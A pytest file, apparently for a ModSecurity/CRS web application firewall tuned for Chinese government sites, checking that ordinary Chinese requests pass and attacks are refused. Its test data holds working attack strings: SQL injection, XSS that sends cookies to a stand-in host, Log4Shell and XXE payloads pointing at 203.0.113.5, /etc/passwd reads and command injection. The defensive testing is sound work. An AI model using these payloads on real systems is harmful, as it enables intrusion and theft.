"""The rendered WAF tier, run for real: nginx 1.22 + ModSecurity 3.0.9 + CRS 3.3.4 on 127.0.0.1."""

from __future__ import annotations

import http.client
import json
import re
import urllib.parse
import uuid
from collections import Counter
from pathlib import Path

import pytest

from tests.waf import attacks, factory
from tests.waf.conftest import Tier
from tests.waf.factory import BLOCKING, GATEWAY, PROFILES, profile_host
from tests.waf.harness import Req, as_citizens, load_corpus, rules_by_test_id, send, send_many

pytestmark = pytest.mark.slow

CORPUS = Path(__file__).parent / "data" / "zh_legit.jsonl"


def _tagged(reqs: list[Req]) -> tuple[list[Req], list[str]]:
    ids = [uuid.uuid4().hex for _ in reqs]
    tagged = [Req(r.method, r.path, {**r.headers, "X-Test-Id": i}, r.body, r.label)
              for r, i in zip(reqs, ids, strict=True)]
    return tagged, ids


def _audit_by_test_id(tier: Tier, expect: list[str] | None = None) -> dict[str, list[str]]:
    return rules_by_test_id(tier.nginx, expect)


def _fp(tier: Tier, profile: str) -> tuple[float, Counter]:
    reqs = as_citizens(load_corpus(CORPUS))
    resps = send_many(tier.port, profile_host(profile), reqs, source=GATEWAY)
    bad = Counter(q.label for q, r in zip(reqs, resps, strict=True) if r.status != 200)
    return sum(bad.values()) / len(reqs), bad


# --- attacks --------------------------------------------------------------------------------------


@pytest.mark.parametrize("profile", BLOCKING)
@pytest.mark.parametrize("family", [*attacks.FAMILIES, "scanner", "protocol"])
def test_attacks_blocked(tier: Tier, profile: str, family: str) -> None:
    reqs = as_citizens(attacks.all_attacks()[family])
    missed = [(q.label, r.status) for q in reqs
              for r in [send(tier.port, profile_host(profile), q, source=GATEWAY)] if r.status != 403]
    assert not missed, f"{profile}: {family} not blocked: {missed}"


def test_paranoia_is_per_site_in_one_nginx(tier: Tier) -> None:
    """CRS is loaded once; strict (PL2) and standard (PL1) differ only by their rules files."""
    pl2_only = [
        Req("GET", "/search?q=%3Cb%3E%E9%87%8D%E8%A6%81%3C%2Fb%3E", dict(attacks.BASE)),  # 941320
        Req("GET", "/search?q=a%20%26%26%20b%20%7C%7C%20c", dict(attacks.BASE)),  # 942120 operators
    ]
    for q in as_citizens(pl2_only):
        assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == 403, q.path
        assert send(tier.port, profile_host("standard"), q, source=GATEWAY).status == 200, q.path


def test_crs_loaded_once(tier: Tier) -> None:
    includes = [(rel, line) for rel, text in tier.files.items() for line in text.splitlines()
                if "modsecurity-crs" in line and "Include" in line]
    assert includes == [("modsecurity/main.conf", "Include /usr/share/modsecurity-crs/rules/*.conf")]
    assert "rules loaded inline/local/remote: 0/" in tier.nginx.test_config().stderr


# --- Chinese traffic ------------------------------------------------------------------------------


INVALID_UTF8 = ["%D6%D0%B9%FA", "%27%D6%D0%B9%FA%27", "%FF%FE", "a%C0", "%ED%A0%80", "%F4%90%80%80", "%C0%AF"]


@pytest.mark.parametrize("profile", PROFILES)
def test_invalid_utf8_and_gbk_never_crash_a_worker(tier: Tier, profile: str) -> None:
    """GBK forms of legacy sites and raw attack bytes reach every rule: none may crash the engine
    (a (*UTF) pattern under PCRE2's JIT did, which is why the tuning has none)."""
    for value in INVALID_UTF8:
        for q in as_citizens([Req("GET", f"/search?q={value}", dict(attacks.BASE)),
                              Req("POST", "/hudong/letter/submit",
                                  {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
                                  f"content={value}")]):
            r = send(tier.port, profile_host(profile), q, source=GATEWAY)
            assert r.status in (200, 403), (value, r.status)
    assert "exited on signal" not in tier.nginx.error_log()


@pytest.mark.parametrize("profile", PROFILES)
def test_chinese_traffic_passes(tier: Tier, profile: str) -> None:
    rate, bad = _fp(tier, profile)
    print(f"\nFP rate {profile} (tuned): {rate:.2%} {dict(bad)}")
    assert rate < 0.01, f"{profile}: {rate:.2%} of ordinary Chinese requests refused: {dict(bad)}"


def test_stock_crs_is_unfit_and_tuning_is_what_fixes_it(stock_tier: Tier) -> None:
    """Without the platform tuning the same corpus is refused massively: the tuning is load-bearing."""
    rates = {p: _fp(stock_tier, p)[0] for p in ("strict", "standard")}
    print(f"\nFP rate stock CRS: {rates}")
    assert rates["standard"] > 0.05
    assert rates["strict"] > rates["standard"]


def test_tuning_keeps_the_replaced_rules_alive(tier: Tier) -> None:
    """Each replaced CRS rule still catches its attack when the input is what it was written for."""
    cases = [
        ("standard", "/search?q=%BCscript%BEalert(1)%BC/script%BE", "10310"),  # invalid UTF-8 US-ASCII XSS
        ("strict", "/search?q=" + "%29%28" * 7, "10430"),  # 14 SQL special characters
        ("strict", "/search?q=%27%20%7C%7C%20admin%3D%20%27%20having%201", "10260"),  # 942260
        ("strict", "/search?q=1%27%20like%20%27%25", "10260"),
        ("strict", "/search?q=foo%3Bc%27at%27%20%2Fetc%2Fpa%27s%27swd", "10200"),  # 932200: quotes
        ("strict", "/search?q=x%20%2Fbin%2Fc%3Ft%20%2Fetc%2Fpa%3F%3Fwd", "10200"),  # 932200: globs
    ]
    reqs, ids = _tagged(as_citizens([Req("GET", path, dict(attacks.BASE)) for _, path, _ in cases]))
    for (profile, _, _), q in zip(cases, reqs, strict=True):
        send(tier.port, profile_host(profile), q, source=GATEWAY)
    audit = _audit_by_test_id(tier, ids)
    for (_, path, rule), i in zip(cases, ids, strict=True):
        assert rule in audit.get(i, []), f"{rule} did not fire on {path}: {audit.get(i)}"


def _q(text: str) -> str:
    return urllib.parse.quote(text, safe="")


LETTER = ("请问：1. 申请公租房需要哪些材料？2. 审核需要多长时间？她说'明天再来'，可是第二天还是没人处理。"
          "联系电话：0531-85756838，手机：13391234567，邮箱：citizen@163.com。根据《物业管理条例》第七条"
          "（收费标准调整）……办事页面链接：http://zwfw.example.gov.cn/jnzwdt/pages/default/index?areacode=370100"
          "&type=1 ，请工作人员查看（谢谢！）")
REFERRER = "https://www.baidu.com/s?wd=营商环境+优化+措施&rsv_spt=1&rsv_iqid=0xdb6a46b1c603&ie=utf-8&src=srp"
# SQL payloads as constants (a literal concatenated into a path reads as query building to the linter).
SQLI_UNION = "1' union select password from users--"
SQLI_MIXED = ("1' and (select 1 from(select count(*),concat((select '中文'),floor(rand(0)*2))x "
              "from information_schema.tables group by x)a)--")
HEX_UNION = "' union select 0x61646d696e,password from sys_user--"
JSON_FILTER_SQLI = '[{"field":"kmdm","op":"like","value":"x\' or \'1\'=\'1\' union select password from sys_user--"}]'
JSON_FILTER_SQLI_OR = '[{"field":"je","op":">=","value":"1 || (select password from sys_user) <> 1"}]'
SDK_COOKIE = '{"distinct_id":"18c2a","props":{"$url":"https://www.example.gov.cn/art/2024/1/2/art_1_2.html"}}'

# Issue 13 session 4, one row per tuning change (docs/waf.md): (what, the ordinary request that made
# the change [rule that may no longer fire on it], and on the SAME path and parameter an attack the
# rule must still see [rule that must fire] and the tier must still refuse (403)). All on strict (PL2).
TUNING_CASES = [
    ("unicode map: “” ‘’ are not ASCII quotes",
     "/search?q=" + _q("“双减”政策落实情况"), "10110",  # 942110's copy since stop 31 (prime notation)
     "/search?q=" + _q('"双减"政策落实情况'), "10110",
     "/search?q=" + _q("＂ or 1=1-- ")),  # fullwidth ＂ keeps its best fit
    ("10150/10450: a plain URL in a parameter",
     "/page?ref=" + _q(REFERRER.replace("www.baidu.com", "www.gd.gov.cn")), "10450",
     "/page?ref=" + _q("0x61646d696e"), "10450",
     "/page?ref=" + _q('https://x.example/"><img src=x onerror=alert(1)>')),
    ("10150: src= as a query name of a plain URL",
     "/page?ref=" + _q(REFERRER.replace("www.baidu.com", "www.gd.gov.cn")), "10150",
     "/page?ref=" + _q("https://x.example/a b style=x"), "10150",
     "/page?ref=" + _q("https://x.example/?id=" + SQLI_UNION)),
    ("10340: a quote then a Chinese character",
     "/hudong/submit?content=" + _q(LETTER), "10340",
     "/hudong/submit?content=" + _q("x'-alert.call(null,1)=1"), "10340",
     "/hudong/submit?content=" + _q("';document.location='http://x.example/?c='+document.cookie;//")),
    ("10040: Matomo's referrer leaves the off-domain rule on the tracker only",
     "/matomo.php?idsite=7&rec=1&url=https%3A%2F%2Fwww.example.gov.cn%2Fart%2F1.html&urlref="
     + _q("https://www.sogou.com/web?query=%E5%9F%8E%E4%B9%A1"), "10130",
     "/matomo.php?idsite=7&rec=1&url=https%3A%2F%2Fevil.example%2Fshell.txt&urlref="
     + _q("https://www.sogou.com/web?query=x"), "10130",
     "/matomo.php?idsite=7&rec=1&urlref=" + _q('https://www.sogou.com/"><script>alert(1)</script>')),
    ("10430: 12 special characters in one ASCII run",
     "/hudong/submit?content=" + _q(LETTER), "10430",
     "/hudong/submit?content=" + _q(SQLI_MIXED), "10430",
     "/hudong/submit?content=" + _q(SQLI_MIXED)),
    # Session 6, rule audit (motivated by the rules' text and public conventions, not a corpus).
    ("10440: a building number is no SQL comment",
     "/hudong/submit?content=" + _q("观山湖区某某小区3#楼 2单元 501室，#乡村振兴# 话题"), "10440",
     "/hudong/submit?content=" + _q("1 or 1=1# x"), "10440",
     "/hudong/submit?content=" + _q("1' or '1'='1'# ")),
    ("10440: a dash between Chinese phrases",
     "/hudong/submit?content=" + _q("办理时间 -- 工作日 9:00-17:00，电话 0851-86812345"), "10440",
     "/hudong/submit?content=" + _q("DROP sampletable;--"), "10440",
     "/hudong/submit?content=" + _q(SQLI_UNION)),
    ("10440: a base64url token (a CAS service ticket; the zwfw-sso package excluded 942440 for it)",
     "/sso/callback?ticket=ST-100234-aa--bb--cc_dd-ee-cas", "10440",
     "/sso/callback?ticket=" + _q("ST-1 --x-"), "10440",
     "/sso/callback?ticket=" + _q("ST-1' or '1'='1'--")),
    ("10650/10410: an English word, Chinese, then a parenthesis",
     "/search?q=" + _q("统计 count 总数(人) 与 date 日期(2026年)"), "10650",
     "/search?q=" + _q("x count (1"), "10650",
     "/search?q=" + _q("1 and count(select 1)")),
    ("10361: Chinese text before union",
     "/search?q=" + _q("欧盟 union 合作"), "10361",
     "/search?q=" + _q("-- union"), "10361",
     "/search?q=" + _q("1) union all select 1,2,3--")),
    # Stop 28 (corpus M tuning part, budget-disclosure table-query): a query builder's JSON filter, whose member
    # values are the operators. A quoted operator is a string; the same operator outside a whole member value,
    # or after a quote that closes a string the application opened, is read as before.
    ("10180: an operator or keyword as a JSON member's whole value",
     "/yjsgk/api/report/query?filters=" + _q('[{"field":"kmdm","op":"like","value":"205%"},{"field":"je","op":">=",'
                                             '"value":100},{"field":"bm","op":"=","value":"财政局"}]'), "10180",
     "/yjsgk/api/report/query?filters=" + _q('[{"field":"kmdm","op":"like","value":"x" or "1"="1"}]'), "10180",
     "/yjsgk/api/report/query?filters=" + _q(JSON_FILTER_SQLI)),
    ("10450: a base64 image is not read for hex (its '+' decodes to a space)",
     "/ocr/api/predict?image=" + _q("/9j/4AAQSkZJRgABAQAASABIAAD/2wBDAEC2b3LaFg8M7joBWuRqHubqMF38gDXi/"
                                    "+0x1f3AtxQKjbs1JLcmKLSKStjOxkda8Kkxu3s6QyFLXtVN69pc2lKxl7YwM1CC=="), "10450",
     "/ocr/api/predict?image=" + _q("QUJD" * 16 + " or 0x61646d696e"), "10450",
     "/ocr/api/predict?image=" + _q("QUJD" * 16 + HEX_UNION)),
    ("10521: a GS1 element string (a UDI or 药品追溯码 label) is no PHP call",
     "/udi/api/di/parse?udi=" + _q("(01)06940841116857(17)290126(10)B51372(21)SN844086") + "&source=scan", "10521",
     "/udi/api/di/parse?udi=" + _q("(01)06940841116857(system)(id)"), "10521",
     "/udi/api/di/parse?udi=" + _q("(01)06940841116857\n(system)('cat /etc/passwd')")),
    ("10521: a division of two parenthesised terms is no PHP call",
     "/dataService/api/apply/check?purpose=" + _q("内涝 评估，公式 S = (a + b)/(c + d)，单位 mm/h"), "10521",
     "/dataService/api/apply/check?purpose=" + _q("(system)/**/(id)"), "10521",
     "/dataService/api/apply/check?purpose=" + _q("(system)/* x */('cat /etc/passwd')")),
    ("10120: an operator as a JSON member's whole value",
     "/yjsgk/api/report/query?filters=" + _q('[{"field":"je","op":">=","value":100},{"field":"je","op": "<>",'
                                             '"value":0},{"field":"zt","op":"!=","value":"作废"}]'), "10120",
     "/yjsgk/api/report/query?filters=" + _q('[{"field":"je","op":">=1 or 1>=","value":100}]'), "10120",
     "/yjsgk/api/report/query?filters=" + _q(JSON_FILTER_SQLI_OR)),
    # Stop 38 (corpus AJ tuning part, langfuse-prompt-create): a prompt template's variables are names, no expression.
    ("10738: a prompt template's {{variables}} are no AngularJS expression",
     "/api/public/v2/prompts?prompt=" + _q("你是{{city}}12345热线助手。请根据{{ context }}回答{{question}}，"
                                           "并列出{{ policy.name }}的依据，标题用{{ title | upper }}"), "10738",
     "/api/public/v2/prompts?prompt=" + _q("你是{{city}}助手 {{7*7}}"), "10738",
     "/api/public/v2/prompts?prompt=" + _q("{{name}} {{constructor.constructor('alert(document.cookie)')()}}")),
    ("10738: an AngularJS sandbox escape after an ordinary variable",
     "/api/public/v2/prompts?prompt=" + _q("{{ 政策名称 }}的适用对象是谁？"), "10738",
     "/api/public/v2/prompts?prompt=" + _q("{{ 政策名称 }} {{$on.constructor}}x{{toString()}}"), "10738",
     "/api/public/v2/prompts?prompt=" + _q("{{a}}{{[].pop.constructor('alert(1)')()}}")),
]


@pytest.mark.parametrize("case", TUNING_CASES, ids=[c[0].split(":")[0] for c in TUNING_CASES])
def test_tuning_change_passes_its_case_and_still_blocks_the_same_parameter(tier: Tier, case: tuple) -> None:
    _, ordinary, quiet_rule, probe, loud_rule, attack = case
    reqs, ids = _tagged(as_citizens([Req("GET", p, dict(attacks.BASE)) for p in (ordinary, probe, attack)]))
    statuses = [send(tier.port, profile_host("strict"), q, source=GATEWAY).status for q in reqs]
    audit = _audit_by_test_id(tier, ids[1:])
    assert statuses[0] == 200 and quiet_rule not in audit.get(ids[0], []), (ordinary, audit.get(ids[0]))
    assert loud_rule in audit.get(ids[1], []), f"{loud_rule} no longer fires on {probe}: {audit.get(ids[1])}"
    assert statuses[2] == 403, f"attack served on the same parameter: {attack}"


def _upload(content_type: str, boundary: str) -> Req:
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="name"\r\n\r\n申请表.pdf\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n'
            f"Content-Type: application/pdf\r\n\r\n%PDF-1.7 x\r\n--{boundary}--\r\n")
    return Req("POST", "/fileupload/upload.do", {**attacks.BASE, "Content-Type": content_type}, body)


@pytest.mark.parametrize("content_type,boundary,fires", [
    ("multipart/form-data; boundary=----WebKitFormBoundaryab/cdEF", "----WebKitFormBoundaryab/cdEF", False),
    ("multipart/form-data; boundary=----WebKitFormBoundaryab+cdEF", "----WebKitFormBoundaryab+cdEF", False),
    ("multipart/form-data; boundary=----x; text/html", "----x", True),  # a second type after the boundary
    ("multipart/form-data; boundary=a/b,text/html", "a/b,text/html", True),
    ("application/x-www-form-urlencoded; text/html", "a/b", True),  # not multipart: stock reading
])
def test_10422_does_not_read_a_multipart_boundary_but_reads_everything_else(
        tier: Tier, content_type: str, boundary: str, fires: bool) -> None:
    """921422 -> 10422 (corpus B tuning part, webuploader uploads): an opaque boundary holding '/' or
    '+' is no second content type; anything next to it is read as stock CRS reads it (and refused)."""
    (q,), ids = _tagged(as_citizens([_upload(content_type, boundary)]))
    status = send(tier.port, profile_host("strict"), q, source=GATEWAY).status
    fired = "10422" in _audit_by_test_id(tier, ids if fires else []).get(ids[0], [])
    # refused: 403, or 400 where libmodsecurity's multipart parser also rejects the header
    assert (fired, status in (400, 403)) == (fires, fires) and (fires or status == 200), (content_type, status)


@pytest.mark.parametrize("charset,allowed", [
    ("US-ASCII", True), ("GBK", True), ("gb2312", True), ("GB18030", True), ("UTF-8", True),  # modsec.ALLOWED_CHARSETS
    ("utf-7", False), ("UTF-16", False), ("ibm037", False), ("gbk2", False), ("garbage", False),
    ("x-iso-8859-1-y", False),  # stock CRS's list anchors only its first and last names: this passed

])
@pytest.mark.parametrize("profile", ["standard", "strict"])
def test_a_chinese_or_ascii_charset_passes_and_an_evasive_one_is_refused(
        tier: Tier, profile: str, charset: str, allowed: bool) -> None:
    """920480: US-ASCII (HJ 212 gateways, corpus L tuning part), GBK, GB2312 and GB18030 cannot make a backend read
    what the WAF did not; UTF-7, UTF-16 and EBCDIC can, and stay refused at paranoia 1."""
    q = as_citizens([Req("POST", "/zmhd/submit.do", {**attacks.BASE, "Content-Type":
                         f"application/x-www-form-urlencoded; charset={charset}"}, "title=abc&content=12345")])[0]
    assert send(tier.port, profile_host(profile), q, source=GATEWAY).status == (200 if allowed else 403)


CDA_VITALS = ('<?xml version="1.0" encoding="UTF-8"?><ClinicalDocument xmlns="urn:hl7-org:v3"><component>'
              '<observation><code code="DE04.10.167.00" displayName="血氧饱和度"/>'
              '<value xsi:type="PQ" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" value="98" unit="%"/>'
              '</observation></component></ClinicalDocument>')


@pytest.mark.parametrize(("body", "ctype", "status"), [
    (CDA_VITALS, "application/xml; charset=UTF-8", 200),  # a percent sign in an XML document is text
    (CDA_VITALS.replace("98", "9\x018"), "application/xml; charset=UTF-8", 400),  # not XML 1.0: the parser refuses
    ("note=abc%2541", "application/x-www-form-urlencoded", 403),  # a "%" left after decoding, as before
])
def test_10275_reads_a_form_body_for_percent_signs_and_never_an_xml_document(
        tier: Tier, body: str, ctype: str, status: int) -> None:
    """10275 (920272's raw-body copy, PL3): nothing URL-decodes an XML body (corpus O tuning part, HL7 CDA
    documents with unit="%", 11 at high-value)."""
    q = as_citizens([Req("POST", "/hip/services/DocumentRegistry", {**attacks.BASE, "Content-Type": ctype}, body)])[0]
    got = send(tier.port, profile_host("high-value"), q, source=GATEWAY).status
    assert got == status or (status == 400 and got == 403), (body[:60], got)




# 10048, 10049 and 10051 (stop 36, corpus AG tuning part): the legacy stacks' own protocols.
_GWT = ("7|0|7|https://www.example.gov.cn/zhjg/zhjg/|6F2B5C0E4A1D9B37C8E2F04A13D7B965|"
        "cn.gov.sn.zhjg.client.service.LoginService|login|java.lang.String/2004016611|jgy315|1dYWMW0Y37|"
        "1|2|3|4|2|5|5|6|7|")
_GWT_HEADERS = {**attacks.BASE, "Content-Type": "text/x-gwt-rpc; charset=utf-8",
                "X-GWT-Permutation": "3A9F1C2B7D4E6F8091A2B3C4D5E6F701",
                "X-GWT-Module-Base": "https://www.example.gov.cn/zhjg/zhjg/"}
GWT_REFUSED = [_GWT.replace("java.lang.String/2004016611", "java.lang.Runtime/2004016611"),
               _GWT.replace("jgy315", "' union select password from sys_user--"),
               _GWT.replace("jgy315", "<script>alert(document.cookie)</script>"),
               _GWT.replace("jgy315", "../../../../etc/passwd"),
               _GWT.replace("jgy315", "${jndi:ldap://203.0.113.5:1389/a}"),
               _GWT.replace("java.lang.String/2004016611",
                            "org.apache.commons.collections.functors.InvokerTransformer/1")]


@pytest.mark.parametrize("profile", BLOCKING)
def test_a_gwt_rpc_call_is_read_as_text_and_asp_nets_resource_handlers_pass(tier: Tier, profile: str) -> None:
    """A GWT-RPC call (exact type and the permutation header) passes and is read whole: SQL, XSS, LFI, Log4Shell and
    a deserialisation gadget class inside it are refused, and so is the type without the permutation header.
    WebResource.axd and ScriptResource.axd pass; trace.axd and elmah.axd stay restricted (920440)."""
    host = profile_host(profile)

    def status(req: Req) -> int:
        return send(tier.port, host, as_citizens([req])[0], source=GATEWAY).status
    assert status(Req("POST", "/zhjg/zhjg/login", _GWT_HEADERS, _GWT)) == 200
    assert [b[-60:] for b in GWT_REFUSED if status(Req("POST", "/zhjg/zhjg/login", _GWT_HEADERS, b)) != 403] == []
    bare = {k: v for k, v in _GWT_HEADERS.items() if k != "X-GWT-Permutation"}
    assert status(Req("POST", "/zhjg/zhjg/login", bare, _GWT)) == 403
    for path, want in (("/WebResource.axd?d=pynGkmcFUV13He1Qd6_TZE1&t=638514245460000000", 200),
                       ("/ScriptResource.axd?d=NJmAwtEo3Ipnlaxl6CMhvrPg&t=ffffffff9bb9b6f3", 200),
                       ("/trace.axd", 403), ("/elmah.axd", 403), ("/x/WebResource.axd.bak", 403)):
        assert status(Req("GET", path, dict(attacks.BASE))) == want, path
# 10050 (stop 36): XXE in an XML body. SOAP, WebDAV and CAP endpoints parse XML; the back end's parser, not the WAF's,
# would resolve the entity.
_SOAP = ('<?xml version="1.0" encoding="UTF-8"?>\n{dtd}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/'
         'envelope/"><soap:Body><queryZwgk><bt>{text}</bt></queryZwgk></soap:Body></soap:Envelope>')
XXE = [_SOAP.format(dtd='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', text="&xxe;"),
       _SOAP.format(dtd='<!DOCTYPE x [<!ENTITY % d SYSTEM "http://203.0.113.5/x.dtd"> %d;]>', text="1"),
       _SOAP.format(dtd='<!DOCTYPE x [\n  <!ENTITY  xxe  PUBLIC "-//x//EN" "http://203.0.113.5/y">\n]>', text="&xxe;"),
       _SOAP.format(dtd='<!DOCTYPE x [<!ENTITY\txxe\tSYSTEM\t"expect://id">]>', text="&xxe;")]
NOT_XXE = [_SOAP.format(dtd="", text="政府信息公开年报"),
           _SOAP.format(dtd='<!DOCTYPE x [<!ENTITY org "某某市人民政府">]>', text="&org;"),  # internal: text only
           _SOAP.format(dtd='<!DOCTYPE ectd:ectd SYSTEM "util/dtd/ich-ectd-3-2.dtd">\n', text="1"),  # eCTD's index
           _SOAP.format(dtd="", text="申报 说明 提到 ENTITY SYSTEM 字样")]


@pytest.mark.parametrize("profile", BLOCKING)
@pytest.mark.parametrize("ctype", ["application/xml; charset=UTF-8", "text/xml"])
def test_an_xml_body_declaring_an_external_entity_is_refused(tier: Tier, profile: str, ctype: str) -> None:
    """10050: every blocking profile refuses an external entity's declaration (SYSTEM or PUBLIC, parameter entities
    too) in a body parsed as XML; a document without one, an internal entity and an external DTD reference pass."""
    def status(body: str) -> int:
        q = as_citizens([Req("POST", "/ws/zwgk", {**attacks.BASE, "Content-Type": ctype}, body)])[0]
        return send(tier.port, profile_host(profile), q, source=GATEWAY).status
    assert [b for b in XXE if status(b) != 403] == []
    assert [b for b in NOT_XXE if status(b) != 200] == []


# 10054/10055 (stop 37, corpus AH tuning part): gRPC-Web's text mode, base64 of length-prefixed protobuf frames.
_GRPC_PATH = "/zjzw.appt.v1.AppointmentService/CreateAppointment"
_GRPC_HEADERS = {**attacks.BASE, "Content-Type": "application/grpc-web-text", "X-Grpc-Web": "1",
                 "X-User-Agent": "grpc-web-javascript/0.1", "Accept": "application/grpc-web-text"}
_GRPC_BODY = "AAAAABMKCemDkembqOahkBIGMzMwMTAw"  # one frame: field 1 "郑雨桐", field 2 "330100"
_GRPC_TWO_FRAMES = _GRPC_BODY + "AAAAAAIIAQ=="  # a second frame, padded on its own as clients send it


@pytest.mark.parametrize("profile", BLOCKING)
def test_a_grpc_web_text_call_passes_and_nothing_else_rides_on_its_type(tier: Tier, profile: str) -> None:
    """10054/10055: the type with X-Grpc-Web: 1 on /<package>.<Service>/<Method> passes with a body of base64
    frames; without the header, on another path or with anything but base64 in the body, it is refused."""
    def status(path: str, headers: dict, body: str) -> int:
        return send(tier.port, profile_host(profile), as_citizens([Req("POST", path, headers, body)])[0],
                    source=GATEWAY).status
    assert status(_GRPC_PATH, _GRPC_HEADERS, _GRPC_BODY) == 200
    assert status(_GRPC_PATH, _GRPC_HEADERS, _GRPC_TWO_FRAMES) == 200
    assert status(_GRPC_PATH, {**_GRPC_HEADERS, "Content-Type": "application/grpc-web-text+proto"}, _GRPC_BODY) == 200
    refused = [(_GRPC_PATH, {k: v for k, v in _GRPC_HEADERS.items() if k != "X-Grpc-Web"}, _GRPC_BODY),
               ("/upload/shell.php", _GRPC_HEADERS, _GRPC_BODY), ("/zjzw.appt.v1.X/a/../b", _GRPC_HEADERS, _GRPC_BODY),
               (_GRPC_PATH, _GRPC_HEADERS, f"{_GRPC_BODY}' union select password from users--"),  # noqa: S608 - an attack the WAF must refuse
               (_GRPC_PATH, _GRPC_HEADERS, "<script>alert(1)</script>"), (_GRPC_PATH, _GRPC_HEADERS, "a=1&b=2"),
               (_GRPC_PATH, _GRPC_HEADERS, _GRPC_BODY + "\n../../etc/passwd")]
    assert [(p, b[-30:]) for p, h, b in refused if status(p, h, b) != 403] == []


# 10052/10053 (stop 37): an uploaded file's lines are not request lines unless they are whole ones.
_GRADS_CTL = ("DSET ^CMPAS_%y4%m2%d2%h2.grd\nTITLE 多源融合降水\nOPTIONS little_endian\nUNDEF -999.0\n"
              "XDEF 701 LINEAR 70.0 0.05\nTDEF 24 LINEAR 00Z01JAN2027 1hr\nENDVARS\n")
UPLOAD_LINES_PASS = [_GRADS_CTL, "<bar>budget foo)</bar>\n<x/>\n", "Please copy files\r\nthen delete backups\r\n"]
UPLOAD_LINES_REFUSED = ["x\r\nGET /admin/ HTTP/1.1\r\nHost: internal\r\n\r\n",
                        "POST http://10.0.0.1/api HTTP/1.0\n", "a\nget%20/x%20HTTP/1.1\n",
                        "PROPFIND /webdav/ HTTP/1.1\r\n"]


def _text_upload(file_text: str, field_text: str = "降水格点数据描述文件") -> Req:
    body = (f'--b0undary\r\nContent-Disposition: form-data; name="sm"\r\n\r\n{field_text}\r\n'
            f'--b0undary\r\nContent-Disposition: form-data; name="file"; filename="cmpas.ctl"\r\n'
            f"Content-Type: text/plain\r\n\r\n{file_text}\r\n--b0undary--\r\n")
    return Req("POST", "/szyb/api/upload", {**attacks.BASE, "Content-Type": "multipart/form-data; boundary=b0undary"},
               body)


@pytest.mark.parametrize("profile", BLOCKING)
def test_an_uploaded_file_is_read_for_whole_request_lines_only(tier: Tier, profile: str) -> None:
    """10052/10053 (921110 on a multipart body; corpus AF tuning part, GrADS .ctl uploads): a text file's line that
    starts with a method word passes; a whole request line in a file, or in a form field of the same upload (921110
    reads the fields as stock), is refused."""
    def status(req: Req) -> int:
        return send(tier.port, profile_host(profile), as_citizens([req])[0], source=GATEWAY).status
    assert [t[:30] for t in UPLOAD_LINES_PASS if status(_text_upload(t)) != 200] == []
    assert [t[:30] for t in UPLOAD_LINES_REFUSED if status(_text_upload(t)) != 403] == []
    assert status(_text_upload(_GRADS_CTL, "说明 GET /admin/ HTTP/1.1")) == 403


@pytest.mark.parametrize(("filename", "status"), [
    ("King's_College_London_Degree_Certificate.pdf", 200), ("O'Brien_简历.pdf", 200), ("l'Université_Paris.pdf", 200),
    ("a.php'", 403), ("'a.php", 403), ("a' .php", 403), ("a\\'.php", 403), ("x=.pdf", 403), ('a".pdf', 403),
])
@pytest.mark.parametrize("profile", ["standard", "strict"])
def test_an_apostrophe_inside_a_file_name_is_part_of_it(tier: Tier, profile: str, filename: str, status: int) -> None:
    """10124/10125 (920120/920121): an apostrophe between two letters is a name's (corpus O held-out part, opened:
    overseas degree certificates); one at either end or next to anything else, '"' and '=' are read as stock."""
    body = (f'--b0undary\r\nContent-Disposition: form-data; name="cllx"\r\n\r\n学位证书\r\n'
            f'--b0undary\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            f"Content-Type: application/pdf\r\n\r\n%PDF-1.7 x\r\n--b0undary--\r\n")
    ctype = "multipart/form-data; boundary=b0undary"
    q = as_citizens([Req("POST", "/xlrz/api/upload", {**attacks.BASE, "Content-Type": ctype}, body)])[0]
    got = send(tier.port, profile_host(profile), q, source=GATEWAY).status
    assert got == status or (status == 403 and got == 400), (filename, got)


@pytest.mark.parametrize("query", ["a=https%3A%2F%2Fevil.example%2Fx.txt&b=https%3A%2F%2Fwww.gov.cn%2F",
                                   "b=https%3A%2F%2Fwww.gov.cn%2F&a=https%3A%2F%2Fevil.example%2Fx.txt",
                                   "a=https%3A%2F%2Fwww.gov.cn%40evil.example%2Fx.txt",
                                   "a=https%3A%2F%2Fevil.example%2F%3Fwww.gov.cn"])
def test_off_domain_url_is_refused_next_to_a_government_url(tier: Tier, query: str) -> None:
    """10130 (931130 with .gov.cn hosts exempt) in any parameter order, and with userinfo tricks."""
    q = as_citizens([Req("GET", "/page?" + query, dict(attacks.BASE))])[0]
    assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == 403
    ok = as_citizens([Req("GET", "/page?a=https%3A%2F%2Fwww.gov.cn%2Fzhengce%2F&b=https%3A%2F%2FZWFW.GD.GOV.CN%2F",
                          dict(attacks.BASE))])[0]
    assert send(tier.port, profile_host("strict"), ok, source=GATEWAY).status == 200


@pytest.mark.parametrize(("url", "status"), [
    ("http://www.opengis.net/def/observationType/OGC-OM/2.0/OM_Measurement", 200),
    ("http://www.opengis.net/def/crs/EPSG/0/4490", 200), ("http://schemas.opengis.net/sos/2.0/sos.xsd", 200),
    ("https://stac-extensions.github.io/eo/v1.1.0/schema.json", 200),
    ("https://schemas.stacspec.org/v1.0.0/item-spec/json-schema/item.json", 200),
    ("https://www.opengis.net.evil.example/x.txt", 403), ("https://opengis.net@evil.example/x.txt", 403),
    ("https://evil.github.io/x.txt", 403), ("https://evil.example/www.opengis.net/x.txt", 403),
])
def test_a_geospatial_standards_identifier_is_not_off_domain_and_a_lookalike_is(
        tier: Tier, url: str, status: int) -> None:
    """10130: OGC's and STAC's own definition and schema hosts are exempt (corpus AF tuning part, SensorThings and
    STAC ingests); lookalikes, userinfo tricks and other github.io pages are not."""
    body = json.dumps({"name": "G1723 水位", "observationType": url}, ensure_ascii=False)
    q = as_citizens([Req("POST", "/sta/v1.1/Datastreams", {**attacks.BASE, "Content-Type": "application/json"},
                         body)])[0]
    assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == status, url


@pytest.mark.parametrize(("url", "status"), [
    ("https://doi.org/10.11821/dlxb.2027.237913", 200), ("https://dx.doi.org/10.1016/j.foodchem.2023.137019", 200),
